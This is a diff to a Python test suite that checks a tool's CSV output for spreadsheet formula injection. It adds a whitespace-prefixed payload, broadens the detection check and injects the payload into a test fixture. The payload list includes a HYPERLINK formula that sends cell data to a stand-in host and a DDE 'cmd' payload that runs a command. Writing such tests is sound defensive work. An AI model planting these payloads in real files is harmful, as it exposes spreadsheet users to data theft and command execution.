@@ -29,7 +29,8 @@ EVACUATION = ROOT / "resources/examples/evacuation_maintenance.toml"
 # the OWASP "CSV injection" payloads, as a hostile colleague would name
 # things
 FORMULAS = ('=HYPERLINK("http://example.invalid/?"&A1,"open")',
-            "=cmd|' /C calc'!A0", "+SUM(1+1)", "@SUM(1)", "-2+3+cmd|x")
+            "=cmd|' /C calc'!A0", "+SUM(1+1)", "@SUM(1)", "-2+3+cmd|x",
+            "  =1+1")   # spreadsheets that trim on import run this too
 
 
 def run_in(folder, *args, timeout=120):
@@ -257,7 +258,8 @@ def text_cells_starting_a_formula(text):
     bad = []
     for row in csv.reader(io.StringIO(text)):
         for cell in row:
-            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
+            if cell.lstrip()[:1] in ("=", "+", "-", "@") or \
+                    cell[:1] in ("\t", "\r"):
                 try:
                     float(cell)
                 except ValueError:
@@ -284,6 +286,8 @@ def hostile_jumbo(folder):
     text = (ROOT / EXAMPLE).read_text(encoding="utf-8")
     text = text.replace('name = "MTU 9000"',
                         f"name = {json.dumps(FORMULAS[4])}", 1)
+    text = text.replace('name = "IPv6"',
+                        f"name = {json.dumps(FORMULAS[5])}", 1)
     text = text.replace('name = "Jumbo frames on a 10 GbE path"',
                         f"name = {json.dumps(FORMULAS[1])}", 1)
     path = folder / "jumbo.toml"
